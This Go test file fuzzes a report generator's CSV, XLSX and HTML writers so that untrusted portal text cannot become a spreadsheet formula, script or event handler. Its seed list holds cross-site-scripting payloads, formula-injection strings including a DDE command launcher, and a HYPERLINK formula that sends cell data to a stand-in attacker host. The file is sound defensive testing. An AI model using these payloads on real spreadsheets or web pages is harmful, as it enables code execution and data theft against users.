package reports

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"io"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/xuri/excelize/v2"
	"golang.org/x/net/html"
	"golang.org/x/text/unicode/norm"
)

// Portal text is untrusted. These targets feed fuzzed titles, organization
// names, messages, reasons and URLs through the writers and parse the output
// back: a spreadsheet cell is never a formula (only vigie's own HYPERLINK,
// with its argument a closed string literal), CSV stays one record per row,
// the HTML parse tree gains no element, script or event handler, and the
// embedded JSON stays valid.

// fixtureTitles returns titles, descriptions and organization titles from the
// real CKAN payloads under testdata/real, as seeds.
func fixtureTitles(tb testing.TB) []string {
	tb.Helper()
	seen := map[string]bool{}
	var out []string
	var walk func(v any)
	walk = func(v any) {
		switch x := v.(type) {
		case map[string]any:
			for k, c := range x {
				if s, ok := c.(string); ok && (k == "title" || k == "notes" || k == "description" || k == "name") && !seen[s] && len(s) < 2048 {
					seen[s] = true
					out = append(out, s)
				}
				walk(c)
			}
		case []any:
			for _, c := range x {
				walk(c)
			}
		}
	}
	root := filepath.Join("..", "testdata", "real")
	err := filepath.WalkDir(root, func(p string, d os.DirEntry, err error) error {
		if err != nil || d.IsDir() || !strings.HasSuffix(p, ".json") || strings.Contains(p, "package_list") {
			return err
		}
		b, err := os.ReadFile(p)
		if err != nil {
			return err
		}
		var v any
		if json.Unmarshal(b, &v) == nil {
			walk(v)
		}
		return nil
	})
	if err != nil {
		tb.Fatal(err)
	}
	if len(out) < 20 {
		tb.Fatalf("only %d seed titles under %s", len(out), root)
	}
	return out
}

// hostileSeeds are strings that try to become code or break a layout.
var hostileSeeds = []string{
	`<script>document.title="PWNED"</script>`,
	`<img src=x onerror="document.title='PWNED'">`,
	`"><svg onload=alert(1)>`,
	`</script><script>alert(1)</script>`,
	`<!--`, `]]>`, `{{.Portal}}`, `${alert(1)}`,
	`=HYPERLINK("http://evil.example/?"&A1,"click")`,
	`=cmd|' /C calc'!A0`, `+1+1`, `-2+3`, `@SUM(A1:A2)`, "\t=1+1", "\r=1+1", "\x00=1+1", " =1+1",
	"\n=1+1", "\x00\x00 =1", "\u200b=1+1", "\ufeff=1+1", "\u00ad\u2060@SUM(A1)", "\u3000=1",
	"\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(A1)", "\ufe66x", "\u207c1", "\u22121", "=\u0338x",
	"\u200f\u200e\u061c marks", "sep\u2028line\u2029para",
	"line1\nline2\r\nline3", "a\x1b[31mred", "\u202eevil\u202c", "\u2066isolated\u2069",
	"\xff\xfe invalid utf-8 \xc3", "a,b;c\td\"e'f", "javascript:alert(1)",
	`https://example.org/"&cmd|' /C calc'!A0&"`,
}

// fuzzReport is the sample report with untrusted text replaced.
func fuzzReport(title, org, msg, link string) *Report {
	r := sampleReport("fr")
	r.Datasets[0].Title = title
	r.Datasets[0].Name = title
	r.Datasets[0].Organization = org
	r.Datasets[0].Findings[0].Message = msg
	r.Datasets[0].Findings[1].Hint = msg
	r.Datasets[1].Title = msg
	r.Organizations[0].Title = org
	r.Organizations[0].Name = org
	r.Links[0].URL = link
	r.Links[0].Reason = msg
	r.Links[0].Datasets[0].Title = title
	r.Links[0].Datasets[0].Name = title
	r.TopFindings[0].Hint = msg
	return r
}

func addSeeds(f *testing.F) {
	titles := fixtureTitles(f)
	for i, s := range hostileSeeds {
		f.Add(s, titles[i%len(titles)], hostileSeeds[(i+3)%len(hostileSeeds)], "https://files.example/"+s)
	}
	for i := 0; i < len(titles); i += 25 {
		f.Add(titles[i], titles[(i+1)%len(titles)], titles[(i+2)%len(titles)], "http://files.example/data.csv")
	}
}

// assertInertCell checks one spreadsheet cell value.
func assertInertCell(t *testing.T, where, v string, oneLine bool) {
	t.Helper()
	if v == "" {
		return
	}
	if !utf8.ValidString(v) {
		t.Fatalf("%s: invalid UTF-8 %q", where, v)
	}
	if v[0] != '\'' && looksLikeFormula(v) {
		t.Fatalf("%s: cell %q would be read as a formula", where, v)
	}
	if strings.ContainsAny(v, "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c\u2028\u2029") {
		t.Fatalf("%s: bidirectional override kept in %q", where, v)
	}
	for _, r := range v {
		if r < 0x20 && !(r == '\n' && !oneLine) || r == 0x7f {
			t.Fatalf("%s: control character %U in %q", where, r, v)
		}
	}
}

// looksLikeFormula is the test's own view of a formula: once leading white
// space, controls and invisible format characters are trimmed and the rest
// NFKC-normalised, the text starts with = + - @ or a minus sign; or its first
// visible character does before normalising composes it with what follows.
func looksLikeFormula(v string) bool {
	rest := strings.TrimLeftFunc(v, func(r rune) bool {
		return unicode.IsSpace(r) || unicode.IsControl(r) || unicode.Is(unicode.Cf, r)
	})
	if rest == "" {
		return false
	}
	first, _ := utf8.DecodeRuneInString(rest)
	for _, s := range []string{string(first), norm.NFKC.String(string(first)), norm.NFKC.String(rest)} {
		if s != "" && (strings.ContainsRune("=+-@", rune(s[0])) || strings.HasPrefix(s, "\u2212")) {
			return true
		}
	}
	return false
}

func FuzzNeutralise(f *testing.F) {
	for _, s := range hostileSeeds {
		f.Add(s)
	}
	for _, s := range fixtureTitles(f) {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		for _, oneLine := range []bool{true, false} {
			n := Neutralise(s, oneLine)
			assertInertCell(t, "Neutralise", n, oneLine)
			// Ordinary text is left exactly as it was.
			plain := utf8.ValidString(s) && s != "" && !looksLikeFormula(s) &&
				strings.IndexFunc(s, func(r rune) bool {
					return r < 0x20 || r == 0x7f || (r >= 0x80 && r < 0xa0) || r == 0xfffe || r == 0xffff ||
						(r >= 0x202a && r <= 0x202e) || (r >= 0x2066 && r <= 0x2069) ||
						r == 0x200e || r == 0x200f || r == 0x061c || r == 0x2028 || r == 0x2029
				}) < 0
			if plain && n != s {
				t.Fatalf("plain text %q changed to %q", s, n)
			}
		}
		md := mdText(s)
		if strings.ContainsAny(md, "\r\n") {
			t.Fatalf("mdText(%q) spans lines: %q", s, md)
		}
		for i := 0; i < len(md); i++ {
			if strings.IndexByte("<>|[]`", md[i]) >= 0 && (i == 0 || md[i-1] != '\\') {
				t.Fatalf("mdText(%q) = %q leaves %q unescaped", s, md, md[i])
			}
		}
	})
}

func FuzzCSVEscape(f *testing.F) {
	addSeeds(f)
	ctx := context.Background()
	f.Fuzz(func(t *testing.T, title, org, msg, link string) {
		r := fuzzReport(title, org, msg, link)
		for _, sep := range []rune{',', ';'} {
			c := &CSV{Sep: sep}
			for _, tb := range r.tables() {
				var buf bytes.Buffer
				if err := c.writeTable(ctx, &buf, tb); err != nil {
					t.Fatalf("%s: %v", tb.name, err)
				}
				cr := csv.NewReader(&buf)
				cr.Comma = sep
				recs, err := cr.ReadAll()
				if err != nil {
					t.Fatalf("%s: the CSV does not parse back: %v", tb.name, err)
				}
				rows := 0
				_ = tb.each(ctx, func([]any) error { rows++; return nil })
				if len(recs) != rows+1 {
					t.Fatalf("%s: %d records for %d rows", tb.name, len(recs), rows)
				}
				for i, rec := range recs {
					if len(rec) != len(tb.cols) {
						t.Fatalf("%s row %d: %d fields for %d columns", tb.name, i, len(rec), len(tb.cols))
					}
					for j, v := range rec {
						switch tb.cols[j].kind {
						case kInt, kScore, kPercent, kNum:
							if _, err := strconv.ParseFloat(v, 64); i > 0 && v != "" && err != nil {
								t.Fatalf("%s row %d: number column holds %q", tb.name, i, v)
							}
							continue
						}
						assertInertCell(t, tb.name, v, true)
						if i > 0 && tb.name == "datasets" && j == 1 && i == 1 && v != Neutralise(title, true) {
							t.Fatalf("title %q written as %q", title, v)
						}
					}
				}
			}
		}
	})
}

// quotePrefixStyles returns the cell style indexes (cellXfs) marked
// quotePrefix="1" in a workbook's styles part.
func quotePrefixStyles(t *testing.T, b []byte) map[int]bool {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
	if err != nil {
		t.Fatal(err)
	}
	out := map[int]bool{}
	for _, zf := range zr.File {
		if zf.Name != "xl/styles.xml" {
			continue
		}
		rc, _ := zf.Open()
		d := xml.NewDecoder(rc)
		in, i := false, 0
		for {
			tok, err := d.Token()
			if err != nil {
				break
			}
			switch e := tok.(type) {
			case xml.StartElement:
				if e.Name.Local == "cellXfs" {
					in = true
				} else if in && e.Name.Local == "xf" {
					for _, a := range e.Attr {
						if a.Name.Local == "quotePrefix" && (a.Value == "1" || a.Value == "true") {
							out[i] = true
						}
					}
					i++
				}
			case xml.EndElement:
				if e.Name.Local == "cellXfs" {
					in = false
				}
			}
		}
		rc.Close()
	}
	return out
}

// xlsxCellsInert opens a workbook and checks that every part is well-formed
// XML (Excel refuses a workbook that is not) and every cell of every sheet
// is inert.
func xlsxCellsInert(t *testing.T, b []byte) (cells int) {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
	if err != nil {
		t.Fatalf("the workbook is not a zip: %v", err)
	}
	for _, zf := range zr.File {
		rc, err := zf.Open()
		if err != nil {
			t.Fatal(err)
		}
		d := xml.NewDecoder(rc)
		for {
			_, err := d.Token()
			if err == io.EOF {
				break
			}
			if err != nil {
				t.Fatalf("%s is not well-formed XML: %v", zf.Name, err)
			}
		}
		rc.Close()
	}
	f, err := excelize.OpenReader(bytes.NewReader(b))
	if err != nil {
		t.Fatalf("the workbook does not open: %v", err)
	}
	defer f.Close()
	quoted := quotePrefixStyles(t, b)
	for _, sh := range f.GetSheetList() {
		rows, err := f.GetRows(sh)
		if err != nil {
			t.Fatalf("sheet %s: %v", sh, err)
		}
		for i, row := range rows {
			for j, v := range row {
				cells++
				ref, _ := excelize.CoordinatesToCellName(j+1, i+1)
				typ, err := f.GetCellType(sh, ref)
				if err != nil {
					t.Fatalf("%s!%s: %v", sh, ref, err)
				}
				raw, _ := f.GetCellValue(sh, ref, excelize.Options{RawCellValue: true})
				_, numErr := strconv.ParseFloat(raw, 64)
				switch {
				case typ == excelize.CellTypeNumber, typ == excelize.CellTypeDate, typ == excelize.CellTypeBool,
					typ == excelize.CellTypeUnset && numErr == nil:
					// a number shown with a format such as "+0.0" is not text
				case looksLikeFormula(v) && v != "" && v[0] != '\'':
					// text kept as it is, with Excel's quote-prefix flag
					style, _ := f.GetCellStyle(sh, ref)
					if !quoted[style] || typ != excelize.CellTypeInlineString && typ != excelize.CellTypeSharedString {
						t.Fatalf("%s!%s: cell %q would be read as a formula (type %v, style %d not quote-prefixed)", sh, ref, v, typ, style)
					}
					assertInertCell(t, sh+"!"+ref, "'"+v, false)
				default:
					assertInertCell(t, sh+"!"+ref, v, false)
				}
				formula, err := f.GetCellFormula(sh, ref)
				if err != nil {
					t.Fatalf("%s!%s: %v", sh, ref, err)
				}
				if formula == "" {
					continue
				}
				arg, ok := strings.CutPrefix(formula, `HYPERLINK("`)
				if ok {
					arg, ok = strings.CutSuffix(arg, `")`)
				}
				if !ok || strings.Contains(strings.ReplaceAll(arg, `""`, ""), `"`) {
					t.Fatalf("%s!%s: formula %q is not a single closed HYPERLINK string", sh, ref, formula)
				}
			}
		}
	}
	return cells
}

func FuzzXLSXEscape(f *testing.F) {
	addSeeds(f)
	ctx := context.Background()
	f.Fuzz(func(t *testing.T, title, org, msg, link string) {
		r := fuzzReport(title, org, msg, link)
		var buf bytes.Buffer
		if err := (XLSX{}).Write(ctx, &buf, r); err != nil {
			t.Fatal(err)
		}
		xlsxCellsInert(t, buf.Bytes())
	})
}

// htmlShape is what a report's HTML may contain, whatever the data.
type htmlShape struct {
	tags     map[string]bool
	scripts  int
	handlers int
}

func shapeOf(t testing.TB, b []byte) htmlShape {
	t.Helper()
	doc, err := html.Parse(bytes.NewReader(b))
	if err != nil {
		t.Fatalf("the HTML does not parse: %v", err)
	}
	s := htmlShape{tags: map[string]bool{}}
	var walk func(n *html.Node)
	walk = func(n *html.Node) {
		if n.Type == html.ElementNode {
			s.tags[n.Data] = true
			if n.Data == "script" {
				s.scripts++
				typ := ""
				for _, a := range n.Attr {
					if a.Key == "type" {
						typ = a.Val
					}
				}
				if typ == "application/json" && n.FirstChild != nil && !json.Valid([]byte(n.FirstChild.Data)) {
					t.Fatalf("embedded JSON no longer parses: %.200q", n.FirstChild.Data)
				}
			}
			for _, a := range n.Attr {
				if strings.HasPrefix(strings.ToLower(a.Key), "on") {
					s.handlers++
				}
				if (a.Key == "href" || a.Key == "src") && strings.HasPrefix(strings.ToLower(strings.TrimSpace(a.Val)), "javascript:") {
					t.Fatalf("<%s %s=%q>", n.Data, a.Key, a.Val)
				}
			}
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	walk(doc)
	return s
}

func FuzzHTMLEscape(f *testing.F) {
	addSeeds(f)
	ctx := context.Background()
	var base bytes.Buffer
	if err := (HTML{}).Write(ctx, &base, fuzzReport("Titre", "Organisation", "Message", "https://files.example/a.csv")); err != nil {
		f.Fatal(err)
	}
	want := shapeOf(f, base.Bytes())
	f.Fuzz(func(t *testing.T, title, org, msg, link string) {
		var buf bytes.Buffer
		if err := (HTML{}).Write(ctx, &buf, fuzzReport(title, org, msg, link)); err != nil {
			t.Fatal(err)
		}
		got := shapeOf(t, buf.Bytes())
		if got.scripts != want.scripts || got.handlers != want.handlers {
			t.Fatalf("portal text changed the page: %d scripts and %d event handlers, want %d and %d",
				got.scripts, got.handlers, want.scripts, want.handlers)
		}
		for tag := range got.tags {
			if !want.tags[tag] {
				t.Fatalf("portal text created a <%s> element", tag)
			}
		}
	})
}

// FuzzXLSXCell is the fast counterpart of FuzzXLSXEscape: the cell values the
// workbook writer makes from untrusted text and URLs, without writing a file.
func FuzzXLSXCell(f *testing.F) {
	for _, s := range hostileSeeds {
		f.Add(s)
		f.Add("https://files.example/" + s)
	}
	for _, s := range fixtureTitles(f) {
		f.Add(s)
	}
	st := &xlsxStyles{link: 1, quoted: 2}
	f.Fuzz(func(t *testing.T, s string) {
		var text string
		switch c := xlsxCell(kText, s, "fr", st).(type) {
		case string:
			text = c
		case excelize.Cell: // text that reads as a formula: quote-prefix style
			v, _ := c.Value.(string)
			if c.StyleID != st.quoted || c.Formula != "" || !FormulaStart(v) {
				t.Fatalf("text %q became %+v", s, c)
			}
			text = "'" + v
		default:
			if s != "" {
				t.Fatalf("text %q did not become a string cell", s)
			}
		}
		assertInertCell(t, "text cell", text, false)
		if n := utf8.RuneCountInString(text); n > maxCell {
			t.Fatalf("%d characters in one cell", n)
		}
		switch c := xlsxCell(kURL, s, "fr", st).(type) {
		case nil:
		case string:
			assertInertCell(t, "URL cell", c, false)
		case excelize.Cell:
			v, _ := c.Value.(string)
			if c.StyleID == st.quoted && c.StyleID != st.link && c.Formula == "" {
				assertInertCell(t, "URL cell", "'"+v, false) // not a URL: quote-prefixed text
				break
			}
			assertInertCell(t, "URL cell", v, false)
			if c.Formula == "" && len(s) > 255 {
				break // too long for HYPERLINK: a hyperlink relationship makes it clickable
			}
			arg, ok := strings.CutPrefix(c.Formula, `HYPERLINK("`)
			if ok {
				arg, ok = strings.CutSuffix(arg, `")`)
			}
			if !ok || strings.Contains(strings.ReplaceAll(arg, `""`, ""), `"`) {
				t.Fatalf("URL %q gave formula %q, not one closed HYPERLINK string", s, c.Formula)
			}
			if strings.ReplaceAll(arg, `""`, `"`) != s {
				t.Fatalf("URL %q gave a HYPERLINK to %q", s, arg)
			}
		default:
			t.Fatalf("URL %q gave a %T", s, c)
		}
	})
}
